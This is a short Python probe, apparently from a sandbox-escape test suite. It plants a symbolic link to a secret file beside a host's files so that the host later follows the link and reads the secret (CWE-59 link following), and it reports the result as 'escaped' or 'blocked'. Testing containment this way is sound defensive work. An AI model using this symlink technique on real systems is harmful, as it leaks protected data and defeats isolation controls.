"""Plant a symbolic link to the secret beside the host's files.

origin: symlink races and link following, CWE-59
why: a link that the host follows later reads for us
control: succeeds
harm: stage
"""


def attack(target):
    link = f"{target['stage']}/link"
    result, error = syscall(target, "symlinkat", os.fsencode(target["secret"]), AT_FDCWD, os.fsencode(link))
    return escaped("a link was planted") if result == 0 else blocked("symlinkat", error)
